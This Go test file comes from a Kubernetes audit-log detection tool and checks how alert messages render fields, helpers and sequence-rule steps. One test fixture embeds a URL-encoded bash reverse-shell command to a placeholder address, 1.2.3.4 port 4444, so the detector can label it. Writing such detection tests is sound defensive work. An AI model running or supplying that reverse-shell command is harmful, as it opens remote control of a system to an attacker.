package detect

import (
	"testing"

	"github.com/vigil-k8s/vigil/ingest"
)

// TestRender_MissingFields pins docs/rules.md: a field that is missing, at
// any depth, renders as an empty string, never as "<no value>" or a
// template error.
func TestRender_MissingFields(t *testing.T) {
	resource := ev("r1", 0, "alice", "create", "pods", 201,
		"annotations", `{"authorization.k8s.io/decision":"allow"}`,
		"requestObject", `{"kind":"Pod","metadata":{"name":"web","labels":null},"spec":{"hostNetwork":true,"volumes":[{"name":"v"}]}}`)
	// A non-resource request: no objectRef, annotations or bodies.
	nonResource := []byte(`{"auditID":"n1","stage":"ResponseComplete","verb":"get","requestURI":"/healthz",` +
		`"user":{"username":"bob"},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-11-22T06:00:00Z"}`)
	cases := []struct {
		name, output string
		event        []byte
		want         string
	}{
		{"top-level missing", "[{{ .nope }}]", resource, "[]"},
		{"nested missing under a known map", "[{{ .objectRef.nope }}]", resource, "[]"},
		{"missing at depth", "[{{ .nope.deeper.still }}]", resource, "[]"},
		{"objectRef of a non-resource request", "[{{ .objectRef.name }}|{{ .objectRef.namespace }}]", nonResource, "[|]"},
		{"annotation present", "[{{ index .annotations \"authorization.k8s.io/decision\" }}]", resource, "[allow]"},
		{"annotation missing", "[{{ .annotations.foo }}]", resource, "[]"},
		{"annotations absent", "[{{ .annotations.foo }}]", nonResource, "[]"},
		{"index of a missing annotation", "[{{ index .annotations \"foo\" }}]", nonResource, "[]"},
		{"request body field", "[{{ .requestObject.spec.hostNetwork }}]", resource, "[true]"},
		{"request body field missing", "[{{ .requestObject.spec.x }}]", resource, "[]"},
		{"request body absent", "[{{ .requestObject.spec.x }}]", nonResource, "[]"},
		{"request body absent, printed whole", "[{{ .requestObject }}]", nonResource, "[]"},
		{"under a JSON null", "[{{ .requestObject.metadata.labels.app }}]", resource, "[]"},
		{"a JSON null", "[{{ .requestObject.metadata.labels }}]", resource, "[]"},
		{"variable path", "[{{ $.requestObject.spec.x }}{{ $r := .requestObject }}{{ $r.spec.x }}]", nonResource, "[]"},
		{"with and range over missing", "[{{ with .nope }}x{{ else }}none{{ end }}{{ range .requestObject.spec.nope }}x{{ end }}]", resource, "[none]"},
		{"range over present", "[{{ range .requestObject.spec.volumes }}{{ .name }}{{ .missing }}{{ end }}]", resource, "[v]"},
		{"default of missing", `[{{ default "*" .objectRef.name }}|{{ default "*" .nope.x }}]`, nonResource, "[*|*]"},
		{"join of missing", `[{{ join .nope ", " }}]`, resource, "[]"},
		{"pipeline in parentheses", "[{{ (.requestObject).spec.x }}{{ (.requestObject).spec.hostNetwork }}]", resource, "[true]"},
		{"method without arguments", "[{{ .first.Unix }}{{ .first.nope }}]", resource, "[1795327200]"},
		{"defined template", `{{ define "x" }}[{{ .nope }}{{ .user.username }}]{{ end }}{{ template "x" . }}`, resource, "[alice]"},
		{"piped", `[{{ index .annotations "foo" | printf "%v" }}{{ .requestObject.kind | printf "%s" }}]`, resource, "[Pod]"},
		{"present fields", `{{ .user.username }} {{ .verb }} {{ .objectRef.resource }} {{ .count }} {{ .first.Format "15:04" }}`, resource, "alice create pods 1 06:00"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			rs := compileTestRules(t, `
rules:
- id: any
  title: any event
  severity: low
  audit: {level: RequestResponse}
  match: verb != ""
  output: '`+c.output+`'
`)
			alerts, err := Evaluate(rs, [][]byte{c.event})
			if err != nil {
				t.Fatal(err)
			}
			if len(alerts) != 1 {
				t.Fatalf("got %d alerts, want 1", len(alerts))
			}
			if got := alerts[0].Message; got != c.want {
				t.Errorf("output %s rendered %q, want %q", c.output, got, c.want)
			}
		})
	}
}

// BenchmarkRender measures one alert message of each kind of template the
// built-in packs use: plain fields, and with/range over a response body.
func BenchmarkRender(b *testing.B) {
	rs := compileTestRules(b, `
rules:
- id: exec
  title: exec
  severity: low
  audit: {level: Metadata}
  match: objectRef.subresource == "exec"
  output: '{{ .user.username }} ran "{{ .execCommand }}" in pod {{ .objectRef.namespace }}/{{ .objectRef.name }}'
- id: binding
  title: binding
  severity: low
  audit: {level: RequestResponse}
  match: objectRef.resource == "clusterrolebindings"
  output: >-
    {{ .user.username }} bound {{ with .responseObject }}{{ .roleRef.kind }} {{ .roleRef.name }}
    to {{ range .subjects }}{{ .kind }} {{ with .namespace }}{{ . }}/{{ end }}{{ .name }} {{ end }}{{ end }}({{ .objectRef.resource }}
    {{ with .objectRef.namespace }}{{ . }}/{{ end }}{{ .objectRef.name }}) at {{ .first.Format "15:04:05" }}
`)
	events := map[string][]byte{
		"exec": ev("e1", 0, "alice", "get", "pods", 101, "objectRef", `{"resource":"pods","subresource":"exec","namespace":"team-a","name":"web"}`,
			"requestURI", "/api/v1/namespaces/team-a/pods/web/exec?command=sh&command=-c&command=id"),
		"binding": ev("b1", 0, "alice", "create", "clusterrolebindings", 201, "responseObject",
			`{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"ServiceAccount","namespace":"ns","name":"sa"},{"kind":"User","name":"bob"}]}`),
	}
	var d ingest.Decoder
	for _, id := range []string{"exec", "binding"} {
		b.Run(id, func(b *testing.B) {
			r := rs.Rule(id)
			e, err := d.Decode(events[id])
			if err != nil {
				b.Fatal(err)
			}
			e.LoadObjects()
			a := &Alert{ExecCommand: ExecCommand(e.RequestURI), Count: 1, FirstTime: t0, LastTime: t0}
			b.ReportAllocs()
			for b.Loop() {
				if render(r, e, a, &windowResult{}) == "" {
					b.Fatal("empty message")
				}
			}
			b.Log(render(r, e, a, &windowResult{}))
		})
	}
}

// TestRender_Helpers pins docs/rules.md: an output template calls the
// expression helpers with the same arguments, lists included.
func TestRender_Helpers(t *testing.T) {
	rs := compileTestRules(t, `
lists:
  admins: [root, "ops-*"]
rules:
- id: shell
  title: shell
  severity: high
  audit: {level: Metadata}
  match: objectRef.subresource == "exec"
  output: >-
    {{ .user.username }}{{ if inList .user.username "admins" }} (admin){{ end }} ran a
    {{ execClass .execCommand }} command ({{ execClass (queryParam .requestURI "command") }}) with
    {{ uaFamily .userAgent }}{{ if isPrivateIP (index .sourceIPs 0) }} from inside{{ end }}
`)
	exec := func(id, user string) []byte {
		return ev(id, 0, user, "get", "pods", 101,
			"objectRef", `{"resource":"pods","subresource":"exec","namespace":"ns","name":"web"}`,
			"requestURI", "/api/v1/namespaces/ns/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F4444+0%3E%261",
			"userAgent", "kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0", "sourceIPs", `["10.0.0.7"]`)
	}
	alerts, err := Evaluate(rs, [][]byte{exec("a1", "ops-anna"), exec("a2", "mallory")})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"ops-anna (admin) ran a reverse-shell command (reverse-shell) with kubectl from inside",
		"mallory ran a reverse-shell command (reverse-shell) with kubectl from inside",
	}
	if len(alerts) != len(want) {
		t.Fatalf("got %d alerts, want %d", len(alerts), len(want))
	}
	for i, a := range alerts {
		if a.Message != want[i] {
			t.Errorf("alert %d: %q, want %q", i, a.Message, want[i])
		}
	}
}

// TestRender_SequenceSteps pins docs/rules.md: a sequence's alert reads
// each step (.steps) and the user of the first (.firstUser), who may not
// be the user of the event that completed it.
func TestRender_SequenceSteps(t *testing.T) {
	rs := compileTestRules(t, `
rules:
- id: grant-then-use
  title: grant then use
  severity: high
  audit: {level: RequestResponse}
  window:
    kind: sequence
    within: 10m
    steps:
      - name: grant
        match: objectRef.resource == "rolebindings" && verb == "create"
        by: ['objectRef.name']
      - name: use
        match: objectRef.resource == "secrets"
        by: ['user.username']
  output: >-
    {{ .firstUser }} granted {{ .user.username }}, who used it:
    {{ range .steps }}{{ .name }} by {{ .user }} ({{ .auditID }}, {{ .time.Format "15:04:05" }}); {{ end }}
- id: plain
  title: plain
  severity: low
  audit: {level: Metadata}
  match: verb == "delete"
  output: '[{{ .firstUser }}][{{ len .steps }}]'
`)
	alerts, err := Evaluate(rs, [][]byte{
		ev("g1", 0, "alice", "create", "rolebindings", 201, "objectRef", `{"resource":"rolebindings","namespace":"ns","name":"mallory"}`),
		ev("u1", 30, "mallory", "get", "secrets", 200),
		ev("d1", 40, "bob", "delete", "pods", 200),
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 2 {
		t.Fatalf("got %d alerts, want the sequence and the delete", len(alerts))
	}
	if want := "alice granted mallory, who used it: grant by alice (g1, 06:00:00); use by mallory (u1, 06:00:30); "; alerts[0].Message != want {
		t.Errorf("sequence: %q, want %q", alerts[0].Message, want)
	}
	if want := "[][0]"; alerts[1].Message != want {
		t.Errorf("single event: %q, want %q", alerts[1].Message, want)
	}
}
